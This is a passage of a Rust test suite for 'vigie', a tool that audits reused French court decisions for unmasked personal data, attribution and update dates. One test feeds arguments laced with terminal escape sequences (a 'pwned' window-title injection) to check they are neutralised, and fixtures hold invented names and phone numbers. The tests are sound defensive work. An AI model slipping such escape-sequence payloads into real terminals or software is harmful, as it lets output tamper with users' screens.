            })
            .collect();
        (
            out.status.code(),
            rules,
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let (code, rules, err) = run("2026-11-25T09:00:00Z");
    assert_eq!((code, rules.len()), (Some(0), 0), "{rules:?}");
    assert!(
        err.contains("warning: 1 transaction of the history is dated after the audit time (2026-11-22T12:00:00Z) and was set aside"),
        "{err}"
    );
    // The last day of the calendar, which databases write for "never", is after the audit too
    // (its midnight in France is past the last instant there is).
    let (code, rules, err) = run("9999-12-31");
    assert_eq!((code, rules.len()), (Some(0), 0), "{rules:?}");
    assert!(err.contains("was set aside"), "{err}");
    // 23:30 UTC on the 20th is the 21st in Paris, the day the message gives.
    let (code, rules, err) = run("2026-11-20T23:30:00Z");
    let want = "FRE004 the decision was deleted at source on 2026-11-21, but the record still publishes it";
    assert_eq!((code, rules), (Some(1), vec![want.to_string()]));
    assert!(!err.contains("after the audit time"), "{err}");
}

/// A file of a reference folder that cannot be read at all (an I/O error, here the system's
/// /proc/self/mem, which lists but does not read) is counted and named like a malformed one;
/// the audit goes on with the others. Given alone, it is unusable input.
#[cfg(target_os = "linux")]
#[test]
fn an_unreadable_file_of_a_reference_folder_is_counted_not_fatal() {
    let dir = tempfile::tempdir().unwrap();
    let reference = dir.path().join("reference");
    std::fs::create_dir(&reference).unwrap();
    std::fs::copy(cc_detail(), reference.join("a.json")).unwrap();
    std::os::unix::fs::symlink("/proc/self/mem", reference.join("b.json")).unwrap();
    let c = corpus(dir.path(), &[clean("r1").to_string()]);
    let out = vigie_on(&c, &reference)
        .args(HEADLESS_JSON)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["audit"]["reference_decisions"], 1);
    assert_eq!(report["audit"]["unreadable_reference_decisions"], 1);
    assert_eq!(report["audit"]["matched_records"], 1);
    assert!(
        stderr.contains("1 reference decision could not be read"),
        "{stderr}"
    );
    assert!(stderr.contains("b.json"), "{stderr}");
    let out = vigie_on(&c, reference.join("b.json"))
        .args(HEADLESS_JSON)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
}

/// A headless audit of `corpus` against the demo's reference and history, at a fixed time.
fn demo_audit(corpus: &Path, format: &str) -> std::process::Command {
    let demo = Path::new(env!("CARGO_MANIFEST_DIR")).join("assets/demo");
    let mut cmd = std::process::Command::new(assert_cmd::cargo::cargo_bin("vigie"));
    cmd.arg(corpus)
        .arg("--reference")
        .arg(demo.join("reference"))
        .arg("--history")
        .arg(demo.join("history.json"))
        .args([
            "--as-of",
            "2026-11-22T12:00:00Z",
            "--quiet",
            "--report",
            format,
        ]);
    cmd
}

// The notice reads the dates and the identifier's kind from the engine's messages: on the demo,
// each shows (checked by hand: the history corrects JURITEXT000048283894 on 2026-10-19 05:00 UTC
// and deletes JURITEXT000048211087 on 2026-10-29 00:00 UTC; jp-00000039, which cites the
// corrected decision, was loaded on 2026-10-13; the newest `updated_at` is
// 2026-11-17T11:00:00Z, noon in Paris, 121 hours before the audit; jp-00000053 shows a date of
// birth).
#[test]
fn the_notice_gives_the_dates_and_identifiers_of_the_demo_findings() {
    let demo = Path::new(env!("CARGO_MANIFEST_DIR")).join("assets/demo");
    let out = demo_audit(&demo.join("corpus.jsonl"), "notice")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    // The wording, the narrow no-break spaces of French typography read as spaces.
    let notice = String::from_utf8(out.stdout)
        .unwrap()
        .replace('\u{202f}', " ");
    for want in [
        "décision mise à jour à la source le 19 octobre 2026, après le dernier chargement de l'enregistrement, le 13 octobre 2026",
        "décision retirée à la source le 29 octobre 2026",
        // Written `2026-11-17T11:00:00Z`: noon in Paris, and as the corpus wrote it.
        "dernière mise à jour de la base le 17 novembre 2026 à 12 h 00 (heure de Paris ; 11 h 00 UTC dans votre base), 121 heures avant la date de l'audit",
        "« jp-00000053 »",
        "identifiant : date de naissance",
    ] {
        assert!(notice.contains(want), "{want} not in:\n{notice}");
    }
}

// Records on one line (a JSON array written without line breaks, as many exports are) are
// counted one by one: the summary and the formal notice count the demo's records with findings
// as the same corpus laid out one record a line does.
#[test]
fn records_sharing_a_line_are_counted_apart() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let demo = root.join("assets/demo");
    let lines = std::fs::read_to_string(demo.join("corpus.jsonl")).unwrap();
    let records: Vec<Value> = lines
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    let dir = tempfile::tempdir().unwrap();
    let one_line = dir.path().join("minified.json");
    std::fs::write(&one_line, serde_json::to_string(&records).unwrap()).unwrap();
    let laid_out = dir.path().join("laid_out.jsonl");
    let text: Vec<String> = records.iter().map(|r| r.to_string()).collect();
    std::fs::write(&laid_out, text.join("\n") + "\n").unwrap();
    let run = |corpus: &Path, format: &str| {
        let out = demo_audit(corpus, format).output().unwrap();
        assert_eq!(out.status.code(), Some(1));
        String::from_utf8(out.stdout).unwrap()
    };
    let count = |corpus: &Path| -> u64 {
        let v: Value = serde_json::from_str(&run(corpus, "json")).unwrap();
        let distinct: std::collections::BTreeSet<String> = v["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| !f["record"].is_null())
            .map(|f| f["record"]["id"].to_string())
            .collect();
        let n = v["summary"]["records_with_findings"].as_u64().unwrap();
        // Every demo record has its own id: the count is that of the distinct ids.
        assert_eq!(n, distinct.len() as u64);
        n
    };
    let n = count(&laid_out);
    assert!(n > 10, "{n}");
    assert_eq!(count(&one_line), n);
    let notice = |corpus: &Path| {
        let text = run(corpus, "notice");
        let at = text.find(" concernant ").expect("a count of records");
        text[at..at + 40].to_string()
    };
    assert_eq!(notice(&one_line), notice(&laid_out));
}

// The report never replaces an input; a notice gives at least a day to comply.
#[test]
fn an_output_that_is_an_input_or_a_notice_of_no_days_is_exit_2() {
    let dir = tempfile::tempdir().unwrap();
    let c = corpus(dir.path(), &[clean("r-1").to_string()]);
    let before = std::fs::read(&c).unwrap();
    let out = vigie_on(&c, cc_detail())
        .args(HEADLESS_JSON)
        .arg("--output")
        .arg(&c)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("the output is also an input"),
        "{out:?}"
    );
    assert_eq!(std::fs::read(&c).unwrap(), before);
    // `--previous` may be the output: it is read first.
    let report = dir.path().join("report.json");
    for previous in [false, true] {
        let mut cmd = vigie_on(&c, cc_detail());
        cmd.args(HEADLESS_JSON).arg("--output").arg(&report);
        if previous {
            cmd.arg("--previous").arg(&report);
        }
        assert_eq!(cmd.output().unwrap().status.code(), Some(0));
        let v: Value = serde_json::from_slice(&std::fs::read(&report).unwrap()).unwrap();
        assert_eq!(v["audit"]["records"], 1);
    }
    for days in ["0", "366"] {
        let out = vigie_on(&c, cc_detail())
            .args(["--report", "notice", "--notice-days", days])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2), "{days}");
    }
}

// The reuser's commentary is kept apart from the decision, but it names nobody in clear: a
// party's name and a phone number in it are MSK004 and MSK005 on the field `commentary`.
#[test]
fn personal_data_in_the_commentary_is_reported() {
    let dir = tempfile::tempdir().unwrap();
    let mut named = clean("r-1");
    named["commentary"] =
        json!("Dans cette affaire, M. Hervé Wattelet, salarié, a obtenu gain de cause.");
    let mut phone = clean("r-2");
    phone["commentary"] = json!("Contact du salarié : 06 12 34 56 78");
    let mut plain = clean("r-3");
    plain["commentary"] = json!("Un arrêt de principe sur la cession de créance.");
    let c = corpus(
        dir.path(),
        &[named.to_string(), phone.to_string(), plain.to_string()],
    );
    let (code, v) = run_json(&c, &[]);
    assert_eq!(code, 1);
    let found: Vec<(String, String, String)> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["record"]["id"].as_str().unwrap().to_string(),
                f["rule"].as_str().unwrap().to_string(),
                f["evidence"]["field"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    let want = |id: &str, rule: &str| (id.to_string(), rule.to_string(), "commentary".to_string());
    assert_eq!(found, vec![want("r-1", "MSK004"), want("r-2", "MSK005")]);
    // Redacted in the export, as in the text.
    let excerpt = v["findings"][0]["evidence"]["excerpt"].as_str().unwrap();
    assert!(!excerpt.contains("Wattelet"), "{excerpt}");

    // One commentary with a name, a date of birth and a phone number: each finding's excerpt
    // hides what the others found too, in every export.
    let mut all = clean("r-4");
    all["commentary"] =
        json!("Note : M. Henri Wagner, né le 12 avril 1980, joignable au 06 12 34 56 78.");
    let c = corpus(dir.path(), &[all.to_string()]);
    let (code, v) = run_json(&c, &[]);
    assert_eq!(code, 1);
    let findings = v["findings"].as_array().unwrap();
    let rules: Vec<&str> = findings
        .iter()
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    assert_eq!(rules, ["MSK004", "MSK005", "MSK005"]);
    for f in findings {
        let excerpt = f["evidence"]["excerpt"].as_str().unwrap();
        for secret in ["Henri", "Wagner", "avril", "1980", "12 34", "56 78"] {
            assert!(!excerpt.contains(secret), "{secret} in {excerpt}");
        }
    }
}

// The record's other fields are shown beside the decision: a party named in a title or a list
// of parties, a date of birth, a phone number or a personal e-mail address anywhere in them is
// MSK004 or MSK005 on that field, named by its path. Fields for magistrates are the profiling
// rules' (PRF001, not MSK004), lawyers' names are not masked, and links, an office's address
// and the decision's institutional title are not personal data.
#[test]
fn personal_data_in_the_other_fields_is_reported() {
    let dir = tempfile::tempdir().unwrap();
    let mut r = clean("r-1");
    r["title"] = json!("Affaire M. Hervé Wattelet c/ Société Générale");
    r["parties"] = json!([
        "Mme Lucie Fabre, née le 12 avril 1980",
        "SA Crédit Lyonnais"
    ]);
    r["meta"] = json!({"contact": {"phone": "joignable au 06 12 34 56 78"},
                       "email": "lucie.fabre@gmail.com"});
    // Not personal data, or not the masking rules' to judge.
    r["president"] = json!("Mme Mouillard");
    r["avocats"] = json!(["Me Pierre Dupont", "SCP Piwnica et Molinié"]);
    r["source_url"] = json!("https://www.courdecassation.fr/decision/0612345678");
    r["contact_email"] = json!("contact@editeur.fr");
    r["headline"] = json!("Cour de cassation, Chambre commerciale, 18 novembre 2020, 19-19.463");
    let c = corpus(dir.path(), &[r.to_string()]);
    let (code, v) = run_json(&c, &[]);
    assert_eq!(code, 1);
    let mut found: Vec<(String, String)> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["rule"].as_str().unwrap().to_string(),
                f["evidence"]["field"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    found.sort();
    let want: Vec<(String, String)> = [
        ("MSK004", "parties[0]"),
        ("MSK004", "title"),
        ("MSK005", "meta.contact.phone"),
        ("MSK005", "meta.email"),
        ("MSK005", "parties[0]"),
        ("PRF001", "president"),
    ]
    .iter()
    .map(|(a, b)| (a.to_string(), b.to_string()))
    .collect();
    assert_eq!(found, want);
    // Every excerpt hides what any finding of the record showed as personal.
    for f in v["findings"].as_array().unwrap() {
        let Some(excerpt) = f["evidence"]["excerpt"].as_str() else {
            continue;
        };
        for secret in ["Wattelet", "Lucie", "Fabre", "1980", "56 78", "gmail"] {
            assert!(!excerpt.contains(secret), "{secret} in {excerpt}");
        }
    }
}

/// A usage error quotes the argument as typed; a file name picked up by a shell glob may hold
/// escape sequences (a window title, a colour), which reach the terminal only as stand-ins.
#[test]
fn a_usage_error_never_sends_the_arguments_escape_sequences() {
    let evil = "--\u{1b}]0;pwned\u{7}\u{1b}[31mRED.jsonl";
    for args in [
        vec![evil],
        vec!["c.jsonl", "--reference", "r", "--report", "\u{1b}[31mcsv"],
        vec!["c.jsonl", "--reference", "r", "--fail-on", "\u{9b}2J"],
    ] {
        let out = vigie().args(&args).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        let err = String::from_utf8(out.stderr).unwrap();
        assert!(
            !err.contains('\u{1b}') && !err.contains('\u{7}') && !err.contains('\u{9b}'),
            "{err:?}"
        );
        // The error still says what is wrong.
        assert!(err.contains("error:"), "{err}");
        assert!(
            err.contains("RED.jsonl") || err.contains("csv") || err.contains("2J"),
            "{err}"
        );
    }
    // `--help` is unchanged.
    let out = vigie().arg("--help").output().unwrap();
    assert_eq!(out.status.code(), Some(0));
    assert!(
        String::from_utf8(out.stdout)
            .unwrap()
            .contains("--reference")
    );
}

/// Inside a corpus folder, a named pipe (which would block until someone wrote to it) and a
/// link to a device that never ends (`/dev/zero`) are reported as files that cannot be read,
/// and the audit of the rest goes on and ends.
#[cfg(unix)]
#[test]
fn pipes_and_devices_inside_a_corpus_folder_are_reported_not_read() {
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("corpus");
    std::fs::create_dir(&folder).unwrap();
    std::fs::write(folder.join("a.jsonl"), format!("{}\n", clean("r-1"))).unwrap();
    let made = std::process::Command::new("mkfifo")
        .arg(folder.join("fifo.jsonl"))
        .status()
        .is_ok_and(|s| s.success());
    std::os::unix::fs::symlink("/dev/zero", folder.join("z.jsonl")).unwrap();
    let (code, v) = {
        let out = vigie_on(&folder, cc_detail())
            .args(HEADLESS_JSON)
            .timeout(std::time::Duration::from_secs(60))
            .output()
            .unwrap();
        let v: Value = serde_json::from_slice(&out.stdout).expect("a report, not a hang");
        (out.status.code(), v)
    };
    assert_eq!(v["audit"]["records"], 1, "{v}");
    let unreadable: Vec<&str> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "IN001")
        .map(|f| f["message"].as_str().unwrap())
        .collect();
    let expected = if made { 2 } else { 1 };
    assert_eq!(unreadable.len(), expected, "{unreadable:?}");
    assert!(
        unreadable.iter().all(|m| m.contains("not a regular file")),
        "{unreadable:?}"
    );
    // Unreadable input is no breach of the reuser's: the clean record passes.
    assert_eq!(code, Some(0));
}

// The source left a party's name and date of birth in clear (a planted defect in a real DILA
// decision); the record masks both: two provisional occultations (MSK003), the date of birth being
// a direct identifier MSK005 would flag in clear, not an occultation added (MSK002). Their
// excerpts of the official source show what the record masks: personal data a finding quotes is
// redacted in every export unless revealed (SPEC §4).
#[test]
fn personal_data_a_finding_quotes_is_redacted_in_every_export() {
    use vigie::model::Origin;
    let dir = tempfile::tempdir().unwrap();
    let xml = std::fs::read_to_string(data("dila-cass/JURITEXT000048176094.xml")).unwrap();
    let defect = xml.replacen(
        "M. [H] [W], domicilié",
        "M. Hervé Wallon, né le 3 mars 1975, domicilié",
        1,
    );
    assert_ne!(defect, xml);
    let reference = dir.path().join("reference");
    std::fs::create_dir(&reference).unwrap();
    std::fs::write(reference.join("JURITEXT000048176094.xml"), &defect).unwrap();
    let d = vigie::source::xml::parse_xml(
        defect.as_bytes(),
        Origin {
            file: "JURITEXT000048176094.xml".into(),
            line: 0,
        },
    )
    .unwrap();
    let text = d.text.replacen(
        "M. Hervé Wallon, né le 3 mars 1975,",
        "M. [H] [W], né le [Date naissance 1],",
        1,
    );
    assert_ne!(text, d.text);
    let record = json!({
        "id": "dob-too", "source_id": d.id, "text": text,
        "jurisdiction": "Cour de cassation", "formation": "Chambre sociale", "seat": "Paris",
        "decision_date": "2023-10-04", "number": "22-12.387",
        "attribution": "Source : Cour de cassation (Légifrance)",
        "updated_at": "2026-11-21T08:00:00Z",
        "update_notice": "Document chargé sur le site source le 21/11/2026"
    });
    let c = corpus(dir.path(), &[record.to_string()]);

    let v: Value = serde_json::from_str(&report_of(&c, &reference, "json", &[])).unwrap();
    let findings = v["findings"].as_array().unwrap();
    let rules: Vec<&str> = findings
        .iter()
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    assert_eq!(rules, ["MSK003", "MSK003"]);
    let date = findings
        .iter()
        .position(|f| {
            f["message"]
                == "the record masks personal data that the source left in clear (a direct \
                    identifier): allowed as a provisional occultation, but the defect must be \
                    reported to the court"
        })
        .expect("the date of birth's");
    for f in findings {
        let shown = f["evidence"]["reference_excerpt"].as_str().unwrap();
        assert!(
            shown.contains("M. H•••••••••••, né le •••••••••••,"),
            "{shown}"
        );
    }
    for format in ["json", "jsonl", "csv", "text", "notice"] {
        let out = report_of(&c, &reference, format, &[]);
        for secret in ["Hervé", "Wallon", "1975", "3 mars", "mars 1975"] {
            assert!(!out.contains(secret), "{format}: {secret} in\n{out}");
        }
    }

    // Revealed, as the reference shows it.
    let v: Value = serde_json::from_str(&report_of(
        &c,
        &reference,
        "json",
        &["--reveal-personal-data".as_ref()],
    ))
    .unwrap();
    let f = &v["findings"][date];
    let shown = f["evidence"]["reference_excerpt"].as_str().unwrap();
    assert!(
        shown.contains("M. Hervé Wallon, né le 3 mars 1975,"),
        "{shown}"
    );
}

// An excerpt whose window starts inside a name shows none of its letters but the name's first,
// which is not in it: `ont` (of `Dupont`) is `•••`, not `o••` (SPEC §4: first letter kept).
#[test]
fn an_excerpt_cut_inside_a_name_shows_none_of_its_letters() {
    let dir = tempfile::tempdir().unwrap();
    let record = json!({
        "id": "u1",
        "text": "M. Jean Dupont a formé un pourvoi. Son téléphone : 06 12 34 56 78."
    });
    let c = corpus(dir.path(), &[record.to_string()]);
    let reference = cc_detail();
    let v: Value = serde_json::from_str(&report_of(&c, &reference, "json", &[])).unwrap();
    let excerpts: Vec<(&str, &str)> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|f| Some((f["rule"].as_str()?, f["evidence"]["excerpt"].as_str()?)))
        .collect();
    let phone = "••• a formé un pourvoi. Son téléphone : ••••••••••••••.";
    assert_eq!(
        excerpts,
        [
            (
                "MSK004",
                "M. J•••••••••• a formé un pourvoi. Son téléphone : •••"
            ),
            ("MSK005", phone),
        ]
    );
    for format in ["csv", "notice"] {
        let out = report_of(&c, &reference, format, &[]);
        assert!(out.contains(phone), "{format}:\n{out}");
        assert!(!out.contains("o••"), "{format}:\n{out}");
    }
}

/// Fingerprints key the auditor's waivers and `--previous`: they follow what a finding shows,
/// not where its span falls. A text whose line ends became `\r\n`, or that gained a note
/// before the breach, keeps the breach's fingerprint; and duplicates of one id in two files
/// are told apart.
#[test]
fn fingerprints_outlive_edits_elsewhere_and_are_unique() {
    let dir = tempfile::tempdir().unwrap();
    let text = cc_text();
    // A substituted word (INT001), and an added sentence with a date of birth (INT002,
    // MSK005).
    let altered = text.replacen("pourvoi", "recours", 1) + "\nNée le 3 mars 1975 à Lyon.";
    let fingerprints = |t: &str| -> Vec<(String, String)> {
        let mut r = clean("r1");
        r["text"] = json!(t);
        let c = corpus(dir.path(), &[r.to_string()]);
        let (_, v) = run_json(&c, &["--fail-on", "never"]);
        v["findings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| {
                (
                    f["rule"].as_str().unwrap().to_string(),
                    f["fingerprint"].as_str().unwrap().to_string(),
                )
            })
            .collect()
    };
    let base = fingerprints(&altered);
    let rules: Vec<&str> = base.iter().map(|(r, _)| r.as_str()).collect();
    assert_eq!(rules, ["INT001", "INT002", "MSK005"]);
    // Line ends as Windows writes them: every span moves, no fingerprint does.
    assert_eq!(fingerprints(&altered.replace('\n', "\r\n")), base);
    // A note inserted at the top: an INT002 of its own, first in the text's order; every
    // finding of before keeps its fingerprint, the insertion at the end included.
    let noted = format!("Note de la rédaction : arrêt important.\n{altered}");
    let with_note = fingerprints(&noted);
    assert_eq!(with_note.len(), 4, "{with_note:?}");
    assert_eq!(with_note[1].0, "INT002");
    assert!(!base.contains(&with_note[1]), "{with_note:?}");
    assert_eq!(
        [&with_note[0], &with_note[2], &with_note[3]],
        [&base[0], &base[1], &base[2]]
    );

    // One id in three files: two IN002, each its own fingerprint.
    let files: Vec<PathBuf> = ["a", "b", "c"]
        .iter()
        .map(|n| {
            let p = dir.path().join(format!("{n}.jsonl"));
            std::fs::write(&p, format!("{}\n", clean("dup"))).unwrap();
            p
        })
        .collect();
    let out = vigie()
        .args(&files)
        .arg("--reference")
        .arg(cc_detail())
        .args(HEADLESS_JSON)
        .args(["--fail-on", "never"])
        .output()
        .unwrap();
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    let in002: Vec<&str> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "IN002")
        .map(|f| f["fingerprint"].as_str().unwrap())
        .collect();
    assert_eq!(in002.len(), 2, "{v}");
    assert_ne!(in002[0], in002[1]);
}

/// `-o -` is standard output, as `-` is standard input for the corpus: no file named `-`.
/// Without `--report`, the name of the output tells the format (`.json`, `.jsonl`, `.ndjson`,
/// `.csv`, `.md` for the notice, `.txt`), and a name that does not is exit 2 before the audit
/// runs, rather than the text summary under a name such as `report.out`. A folder is no output.
#[test]
fn the_output_path_tells_the_format_and_dash_is_standard_output() {
    let dir = tempfile::tempdir().unwrap();
    let c = corpus(dir.path(), &[clean("a").to_string()]);
    let work = dir.path().join("work");
    std::fs::create_dir(&work).unwrap();
    let run = |extra: &[&str]| {
        vigie()
            .current_dir(&work)
            .arg(&c)
            .arg("--reference")
            .arg(cc_detail())
            .args(["--as-of", "2026-11-22T12:00:00Z", "--quiet"])
            .args(extra)
            .output()
            .unwrap()
    };
    let out = run(&["--report", "json", "-o", "-"]);
    assert_eq!(out.status.code(), Some(0));
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["vigie_report"], 1);
    assert!(!work.join("-").exists(), "no file named `-`");
    // The format from the name.
    let out = run(&["-o", "report.json"]);
    assert_eq!(out.status.code(), Some(0));
    assert!(out.stdout.is_empty());
    let v: Value =
        serde_json::from_slice(&std::fs::read(work.join("report.json")).unwrap()).unwrap();
    assert_eq!(v["summary"]["verdict"], "compliant");
    run(&["-o", "findings.NDJSON"]);
    let jsonl = std::fs::read_to_string(work.join("findings.NDJSON")).unwrap();
    assert!(jsonl.starts_with("{\"summary\":"), "{jsonl}");
    run(&["-o", "findings.csv"]);
    let csv = std::fs::read_to_string(work.join("findings.csv")).unwrap();
    assert!(csv.starts_with("fingerprint,rule,name,"), "{csv}");
    run(&["-o", "notice.md"]);
    let md = std::fs::read_to_string(work.join("notice.md")).unwrap();
    assert!(md.starts_with("# Projet de lettre"), "{md}");
    run(&["-o", "summary.txt"]);
    let txt = std::fs::read_to_string(work.join("summary.txt")).unwrap();
    assert!(txt.starts_with("vigie: verdict compliant"), "{txt}");
    // `--report` wins over the name.
    run(&["--report", "csv", "-o", "export.json"]);
    let csv = std::fs::read_to_string(work.join("export.json")).unwrap();
    assert!(csv.starts_with("fingerprint,"), "{csv}");
    // A name that tells nothing.
    for name in ["report.out", "report"] {
        let out = run(&["-o", name]);
        assert_eq!(out.status.code(), Some(2), "{name}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            err.contains(&format!("--output {name}: its name does not tell the report's format; give --report json, jsonl, csv, notice or text")),
            "{err}"
        );
        assert!(!work.join(name).exists());
    }
    // A folder, existing or named as one.
    std::fs::create_dir(work.join("reports")).unwrap();
    for name in ["reports", "reports/", "new/"] {
        let out = run(&["--report", "json", "-o", name]);
        assert_eq!(out.status.code(), Some(2), "{name}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            err.contains(&format!(
                "vigie: {name}: is a folder, not a file the report can be written to"
            )),
            "{err}"
        );
        assert!(!err.contains("os error"), "{err}");
    }
    assert!(!work.join("new").exists());
    // A read-only report (one signed off) is not replaced, though its folder would allow the
    // rename: exit 2 before the audit, the file as it was.
    let kept = work.join("summary.txt");
    let before = std::fs::read(&kept).unwrap();
    let mut perms = std::fs::metadata(&kept).unwrap().permissions();
    perms.set_readonly(true);
    std::fs::set_permissions(&kept, perms).unwrap();
    let out = run(&["-o", "summary.txt"]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("vigie: summary.txt: the file is read-only: vigie does not replace it"),
        "{err}"
    );
    assert_eq!(std::fs::read(&kept).unwrap(), before);
    assert!(std::fs::metadata(&kept).unwrap().permissions().readonly());
    let mut left: Vec<String> = std::fs::read_dir(&work)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    left.sort();
    assert_eq!(
        left,
        [
            "export.json",
            "findings.NDJSON",
            "findings.csv",
            "notice.md",
            "report.json",
            "reports",
            "summary.txt"
        ]
    );
}

// A blank `--reuser` (an empty shell variable, a form left empty) names nobody: the notice
// keeps the placeholder the clerk completes, as it does without the option, and says so on
// stderr; a name is trimmed.
#[test]
fn a_blank_reuser_leaves_the_addressee_to_complete() {
    let dir = tempfile::tempdir().unwrap();
    let c = corpus(
        dir.path(),
        &[json!({"id": "r0", "source_id": "nothing"}).to_string()],
    );
    let notice = |reuser: Option<&str>| {
        let mut cmd = vigie_on(&c, cc_detail());
        cmd.args([
            "--as-of",
            "2026-11-22T12:00:00Z",
            "--report",
            "notice",
            "--quiet",
        ]);
        if let Some(name) = reuser {
            cmd.args(["--reuser", name]);
        }
        let out = cmd.output().unwrap();
        // The record breaches (no attribution, no date of update): exit 1, not a usage error.
        assert_eq!(out.status.code(), Some(1), "{reuser:?}");
        (
            String::from_utf8(out.stdout).unwrap(),
            String::from_utf8(out.stderr).unwrap(),
        )
    };
    let addressee = |text: &str| -> String {
        text.lines()
            .find(|l| l.starts_with("**Destinataire"))
            .unwrap()
            .to_string()
    };
    let placeholder = "**Destinataire\u{202f}:** [Réutilisateur — nom et adresse à compléter]  ";
    let (none, stderr) = notice(None);
    assert_eq!(addressee(&none), placeholder);
    assert!(!stderr.contains("--reuser"), "{stderr}");
    for blank in ["", "   ", "\t", "\u{a0}\u{2003}"] {
        let (text, stderr) = notice(Some(blank));
        assert_eq!(addressee(&text), placeholder, "{blank:?}");
        assert_eq!(text, none, "{blank:?}");
        assert!(
            stderr.contains(
                "vigie: warning: --reuser is blank: the notice leaves the addressee as a \
                 placeholder to complete"
            ),
            "{blank:?}: {stderr}"
        );
    }
    let (text, stderr) = notice(Some("  Éditions Exemple SA  "));
    assert_eq!(
        addressee(&text),
        "**Destinataire\u{202f}:** Éditions Exemple SA  "
    );
    assert!(!stderr.contains("--reuser"), "{stderr}");
}

// `--reuser` and `--notice-days` serve the formal notice alone: a run that writes another
// report (or the text summary) says they are not used, as it says of an --output named for
// another format, and goes on with its report and status unchanged; a notice, asked by
// --report or by the output's name, uses them without a word.
#[test]
fn notice_options_without_a_notice_are_said_to_be_unused() {
    let dir = tempfile::tempdir().unwrap();
    let c = corpus(dir.path(), &[clean("r1").to_string()]);
    let run = |args: &[&str]| {
        let out = vigie_on(&c, cc_detail())
            .args(["--as-of", "2026-11-22T12:00:00Z", "--quiet"])
            .args(args)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0), "{args:?}: {out:?}");
        (
            String::from_utf8(out.stdout).unwrap(),
            String::from_utf8(out.stderr).unwrap(),
        )
    };
    let (plain, _) = run(&["--report", "json"]);
    for (args, told) in [
        (
            &["--report", "json", "--reuser", "Éditions Exemple"][..],
            "--reuser is used only by the formal notice (--report notice, or --output NAME.md), \
             which this run does not write (it writes the json report): it is not used",
        ),
        (
            &["--report", "csv", "--notice-days", "30"],
            "--notice-days is used only by the formal notice (--report notice, or --output \
             NAME.md), which this run does not write (it writes the csv report): it is not used",
        ),
        (
            &["--reuser", "", "--notice-days", "30"],
            "--reuser and --notice-days are used only by the formal notice (--report notice, or \
             --output NAME.md), which this run does not write (it prints the text summary): they \
             are not used",
        ),
    ] {
        let (stdout, stderr) = run(args);
        // Said once, and the blank --reuser is not said besides: it is not used at all.
        assert_eq!(stderr, format!("vigie: warning: {told}\n"), "{args:?}");
        if args[..2] == ["--report", "json"] {
            // The report is the one written without them, elapsed time aside.
            let strip = |s: &str| {
                let mut v: Value = serde_json::from_str(s).unwrap();
                v["audit"]["elapsed_ms"] = Value::Null;
                v
            };
            assert_eq!(strip(&stdout), strip(&plain));
        }
    }
    // The notice uses them: nothing to say.
    let (notice, stderr) = run(&[
        "--report",
        "notice",
        "--reuser",
        "Éditions Exemple",
        "--notice-days",
        "30",
    ]);
    assert_eq!(stderr, "");
    assert!(notice.contains("Éditions Exemple"), "{notice}");
    let out = dir.path().join("notice.md");
    let (_, stderr) = run(&["-o", out.to_str().unwrap(), "--reuser", "Éditions Exemple"]);
    assert_eq!(stderr, "");
    assert!(
        std::fs::read_to_string(&out)
            .unwrap()
            .contains("Éditions Exemple")
    );
}

// An `--output` that is a symbolic link is written through as a shell's `>` writes, whether
// its target is there or not: the target gets the report (created when missing), and the link
// stays a link. A link to a file in a folder that does not exist is exit 2 before the audit,
// naming both; one into a reference folder is refused as that folder's path is.
#[cfg(unix)]
#[test]
fn an_output_link_is_written_through_to_its_target() {
    use std::os::unix::fs::symlink;
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let c = corpus(d, &[clean("r1").to_string()]);
    std::fs::create_dir(d.join("reports")).unwrap();
    let audit = |out: &Path, reference: &Path| {
        vigie_on(&c, reference)
            .args(HEADLESS_JSON)
            .arg("-o")
            .arg(out)
            .output()
            .unwrap()
    };
    let is_link = |p: &Path| {
        std::fs::symlink_metadata(p)
            .unwrap()
            .file_type()
            .is_symlink()
    };
    for target in ["reports/2026-11-21.json", "reports/2026-11-22.json"] {
        let link = d.join("latest.json");
        let _ = std::fs::remove_file(&link);
        symlink(target, &link).unwrap();
        // The first night's target is missing (created), then there (replaced).
        let out = audit(&link, &cc_detail());
        assert_eq!(out.status.code(), Some(0), "{out:?}");
        assert!(is_link(&link));
        let v: Value = serde_json::from_slice(&std::fs::read(d.join(target)).unwrap()).unwrap();
        assert_eq!(v["audit"]["records"], 1);
        let out = audit(&link, &cc_detail());
        assert_eq!(out.status.code(), Some(0), "{out:?}");
        assert!(is_link(&link));
    }
    let mut reports: Vec<String> = std::fs::read_dir(d.join("reports"))
        .unwrap()
